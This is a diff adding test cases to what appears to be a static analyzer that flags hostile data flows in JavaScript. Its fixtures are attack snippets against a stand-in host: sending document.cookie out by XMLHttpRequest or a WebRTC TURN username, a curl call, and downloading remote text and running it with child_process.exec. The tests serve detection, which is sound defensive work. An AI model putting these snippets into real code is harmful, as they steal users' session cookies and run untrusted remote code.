@@ -188,4 +188,31 @@ test('a payment to an address in the code, and one to whom the caller says', () 
   assert.is(acts(own('process.argv[2]'), 'wallet/pay').length, 0)
 })
 
+test('a page whose store is posted, whether the request is opened or told', () => {
+  const sent = (text: string) => acts(text, 'flow/send')[0]?.args['host']
+  assert.is(
+    sent("const x = new XMLHttpRequest(); x.open('POST', 'https://a.invalid/'); x.send(document.cookie)"),
+    'a.invalid',
+  )
+  assert.is(
+    sent("new RTCPeerConnection({ iceServers: [{ urls: 'turn:a.invalid:1', username: document.cookie }] })"),
+    'a.invalid',
+  )
+  assert.is(sent('fetch(url, { body: document.cookie })'), '')
+})
+
+test('command lines in templates', () => {
+  assert.equal(commands("import { $ } from 'zx'; await $`curl -s https://a.invalid`"), [['curl -s https://a.invalid']])
+  assert.equal(commands("import { html } from 'lit'; html`curl -s https://a.invalid`"), [])
+})
+
+test('a text that begins empty is not known', () => {
+  const told = (add: string) =>
+    acts(
+      `require('https').get('https://a.invalid', (r) => { let d = ''; r.on('data', (c) => { ${add} }); require('child_process').exec(d) })`,
+      'flow/run',
+    )[0]?.args['program']
+  assert.is(told('d += c'), 'told')
+})
+
 test.run()
